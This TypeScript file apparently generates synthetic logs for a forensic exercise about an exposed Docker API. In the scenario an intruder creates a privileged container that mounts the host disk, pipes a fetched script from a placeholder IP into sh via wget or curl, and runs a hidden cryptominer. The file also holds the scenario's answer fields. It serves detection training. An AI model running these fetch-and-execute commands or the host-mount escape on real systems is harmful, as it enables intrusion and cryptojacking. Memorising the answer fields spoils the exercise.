/**
 * A Docker daemon that listens to the world: a container is made that mounts the machine's own disk, fetches a script
 * and mines. The daemon's log (in debug mode) names no client; a robot's earlier try failed for want of an image.
 */
import { day, hour, isoNanos, minute } from './clock.ts';
import { audited, auditNoise, authNoise, type Line, moments, written } from './noise.ts';
import { chance } from './random.ts';
import { minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';

const id = '9f2b61c0a7d84e35b1c6f0d2a98e7451c3b2a1f0e9d8c7b6a5948372615f4e3d';
const say = (ms: number, level: string, message: string): Line => ({
  ms,
  text: `time="${isoNanos(ms)}" level=${level} msg=${JSON.stringify(message)}`,
});
const fetching = 'wget -qO- http://203.0.113.9/d.sh | sh';

/** What its own staff and robots ask of it. */
function daemonNoise(): Line[] {
  const luck = chance(21);
  const asked = [...moments(weekBegins, weekEnds, 40, luck)].map((ms) =>
    say(
      ms,
      'debug',
      luck.pick([
        'Calling HEAD /_ping',
        'Calling GET /v1.41/containers/json',
        'Calling GET /v1.41/containers/json?all=1',
        'Calling GET /v1.41/info',
        'Calling GET /v1.24/version',
        'Calling GET /v1.41/events?since=0',
      ]),
    ),
  );
  const deployed = Array.from({ length: 7 }, (_, i) => weekBegins + i * day + 2 * hour).flatMap((ms) => [
    say(ms, 'debug', 'Calling POST /v1.41/containers/create?name=shop-web'),
    say(
      ms + 2,
      'debug',
      `form data: ${form({ Cmd: ['node', 'server.js'], Image: 'registry.example.com/shop/web:42' })}`,
    ),
    say(ms + 900, 'debug', `Calling POST /v1.41/containers/${'4c'.repeat(32)}/start`),
  ]);
  return [...asked, ...deployed];
}

function form(more: object): string {
  return JSON.stringify({ AttachStderr: false, AttachStdin: false, AttachStdout: false, Env: [], ...more });
}

const before = night - 2 * day - 3 * hour;
const failed = [
  say(before, 'debug', 'Calling POST /v1.24/containers/create'),
  say(
    before + 3,
    'debug',
    `form data: ${form({ Cmd: ['chroot', '/mnt', 'sh', '-c', 'curl http://192.0.2.240/t.sh | sh'], Image: 'ubuntu:18.04' })}`,
  ),
  say(before + 9, 'error', 'Handler for POST /v1.24/containers/create returned error: No such image: ubuntu:18.04'),
];
const attack = [
  say(night, 'debug', 'Calling POST /v1.41/containers/create'),
  say(
    night + 4,
    'debug',
    `form data: ${form({ Cmd: ['sh', '-c', fetching], HostConfig: { Binds: ['/:/mnt'], Privileged: true }, Image: 'alpine:latest' })}`,
  ),
  say(night + 700, 'debug', `Calling POST /v1.41/containers/${id}/start`),
];

const shim = 41_200;
const deeds = [
  ...audited({
    ms: night + 1_300,
    serial: 91_001,
    pid: shim,
    parent: 1,
    program: '/usr/bin/containerd-shim-runc-v2',
    arguments: [
      '/usr/bin/containerd-shim-runc-v2',
      '-namespace',
      'moby',
      '-id',
      id,
      '-address',
      '/run/containerd/containerd.sock',
    ],
  }),
  ...audited({
    ms: night + 1_900,
    serial: 91_002,
    pid: 41_222,
    parent: shim,
    program: '/bin/busybox',
    arguments: ['sh', '-c', fetching],
  }),
  ...audited({
    ms: night + 9_300,
    serial: 91_009,
    pid: 41_260,
    parent: 41_222,
    program: '/mnt/var/tmp/.d/kdevtmp',
    arguments: ['/mnt/var/tmp/.d/kdevtmp', ...minerArguments],
    folder: '/mnt/var/tmp/.d',
  }),
];

/** What the miner itself printed, as the container's log keeps it. */
const printed = [
  [9_400, ' * POOL #1      pool.example.com:3333 algo auto'],
  [11_000, '[2026-11-03 04:13:06.000]  net      use pool pool.example.com:3333  203.0.113.40'],
  [5 * minute, '[2026-11-03 04:17:55.000]  cpu      accepted (3/0) diff 100001 (61 ms)'],
] as const;
const output = printed.map(
  ([after, line]): Line => ({
    ms: night + after,
    text: JSON.stringify({ log: `${line}\n`, stream: 'stdout', time: isoNanos(night + after) }),
  }),
);

const daemon = 'var/log/docker.log';
const audit = 'var/log/audit/audit.log';

export const docker: Story = {
  name: 'Docker API',
  files: {
    [daemon]: written(daemonNoise(), failed, attack),
    [audit]: written(auditNoise(weekBegins, weekEnds, 22), deeds),
    [`var/lib/docker/containers/${id}/${id}-json.log`]: written(output),
    'var/log/auth.log': written(authNoise(weekBegins, weekEnds, 'swarm02', 23)),
  },
  reading: 'exploit',
  // Its container's output says so.
  stage: 'active',
  begins: night,
  tells: [/Docker/, /alpine/, /d\.sh/],
  requests: [daemon],
  deeds: [audit],
};
